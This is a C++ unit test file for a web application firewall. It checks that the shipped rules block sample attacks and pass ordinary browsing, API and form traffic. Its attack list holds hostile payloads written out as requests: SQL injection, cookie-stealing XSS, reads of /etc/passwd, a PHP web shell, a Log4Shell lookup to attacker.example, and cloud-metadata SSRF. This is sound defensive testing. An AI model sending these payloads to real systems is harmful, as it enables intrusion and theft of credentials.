// The shipped rule set (rules/waf/*.yaml) compiles, blocks one clear attack of every family
// it covers, and passes ordinary browsing, API and form traffic. No EAL.
#include <algorithm>
#include <filesystem>
#include <gtest/gtest.h>
#include <string>
#include <vector>

#include "dataplane/waf/waf_engine.h"
#include "tests/unit/waf_test_support.h"

#ifndef GAUNTLET_SOURCE_ROOT
#error "GAUNTLET_SOURCE_ROOT must name the source tree (set in tests/unit/meson.build)"
#endif

namespace gauntlet {
namespace {

using waf_test::get;
using waf_test::post;
using waf_test::Runner;

class ShippedRulesTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    std::vector<std::string> files;
    for (const auto& e : std::filesystem::directory_iterator(GAUNTLET_SOURCE_ROOT "/rules/waf"))
      if (e.path().extension() == ".yaml") files.push_back(e.path().string());
    std::sort(files.begin(), files.end());
    std::string error;
    engine_ = build_waf_engine(files, 16384, error).release();
    ASSERT_NE(engine_, nullptr) << error;
  }
  static void TearDownTestSuite() { destroy_waf_engine(engine_); }

  static waf_test::Verdict run(const std::string& request) {
    Runner r(*engine_);
    return r.feed(request).at(0);
  }
  static WafEngine* engine_;
};
WafEngine* ShippedRulesTest::engine_ = nullptr;

TEST_F(ShippedRulesTest, BlocksOneClearAttackPerFamily) {
  const std::vector<std::pair<const char*, std::string>> attacks = {
      {"sqli", get("/products?id=1%27%20OR%20%271%27%3D%271")},
      {"sqli union", get("/item?id=-1+UNION+ALL+SELECT+username,password+FROM+users--")},
      {"sqli time", post("/login", "application/x-www-form-urlencoded",
                         "user=admin%27+AND+SLEEP(5)--+-&pass=x")},
      {"xss", get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")},
      {"xss handler", get("/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")},
      {"lfi", get("/download?file=../../../../etc/passwd")},
      {"lfi encoded", get("/download?file=..%252f..%252f..%252fetc%252fshadow")},
      {"rfi", get("/index.php?page=http://203.0.113.9/shell.txt?")},
      {"unix rce", get("/ping?host=127.0.0.1;cat+/etc/passwd")},
      {"windows rce", get("/run?cmd=x%26%26powershell+-enc+SQBFAFgA")},
      {"php", post("/comment", "application/x-www-form-urlencoded",
                   "text=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E")},
      {"log4shell", get("/", "User-Agent: ${jndi:ldap://attacker.example/a}\r\n")},
      {"java", post("/api", "application/json", R"({"class": "java.lang.Runtime"})")},
      {"ssrf", get("/fetch?url=http://169.254.169.254/latest/meta-data/")},
      {"shellshock", get("/cgi-bin/status", "Referer: () { :; }; /bin/bash -c id\r\n")},
      {"smuggling",
       "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n"
       "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
      {"body on get",
       "GET / HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
       "Content-Length: 3\r\n\r\nabc"},
      {"content-type smuggling", post("/api", "text/plain; boundary=\"application/json\"", "{}")},
      {"method override", get("/account/7?_method=DELETE")},
      {"obsolete range header", get("/big.iso", "Request-Range: bytes=0-99\r\n")},
      {"multipart name", post("/up", "multipart/form-data; boundary=b1",
                              "--b1\r\nContent-Disposition: form-data; name=\"a\"; "
                              "filename=\"x;.php\"\r\n\r\ndata\r\n--b1--\r\n")},
      {"ldap", get("/people?uid=jdoe)(%7C(objectClass%3D*")},
      {"session fixation", get("/login?laravel_session=eyJpdiI6")},
      {"sqli chained", post("/f", "application/x-www-form-urlencoded", "q=x%27+AND+7639%3D(")},
  };
  for (const auto& [name, request] : attacks) {
    Runner r(*engine_);
    const auto& v = r.feed(request);
    // A terminal protocol violation ends parsing; the dataplane resets such a flow.
    const bool blocked = !v.empty() && v[0].decision == WafDecision::block;
    EXPECT_TRUE(blocked) << name;
  }
}

TEST_F(ShippedRulesTest, ScannerUserAgentIsBlocked) {
  EXPECT_EQ(run(get("/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n")).decision,
            WafDecision::block);
}

TEST_F(ShippedRulesTest, PassesOrdinaryTraffic) {
  const std::vector<std::string> requests = {
      get("/"),
      get("/search?q=union+station+opening+hours&page=2"),
      get("/blog/2024/05/select-the-best-laptop?utm_source=newsletter&utm_medium=email"),
      get("/products?category=shoes&sort=price_asc&size=42",
          "Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\n"
          "Cookie: session=abc123; theme=dark; cart=3\r\n"
          "Referer: https://www.example.com/products?category=shoes\r\n"),
      post(
          "/api/v1/orders", "application/json",
          R"({"items":[{"sku":"A-100","qty":2}],"note":"Leave at the door, or with a neighbour"})"),
      post("/contact", "application/x-www-form-urlencoded",
           "name=Jane+O%27Brien&email=jane%40example.com&message=Is+it+1+or+2+days%3F+Thanks%21"),
      post("/upload", "multipart/form-data; boundary=b1",
           "--b1\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos\r\n"
           "--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\n"
           "Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0 binary data\r\n--b1--\r\n"),
      get("/docs/user-guide-en.pdf", "Range: bytes=0-1023\r\n"),
      get("/stats?sid=8f2a&cid=1.2&ssid=home-wifi"),  // analytics visit ids are not sessions
      get("/search?q=salt+and+pepper+%28ground%29&order=newest"),
      get("/wiki/Function_(mathematics)?oldid=12"),
      post("/api/v1/upload", "application/octet-stream", "\x01\x02binary"),
  };
  for (const std::string& request : requests) {
    const auto v = run(request);
    EXPECT_EQ(v.decision, WafDecision::pass)
        << request << "\nmatched: " << ::testing::PrintToString(v.rules) << " " << v.excerpt;
  }
}

}  // namespace
}  // namespace gauntlet
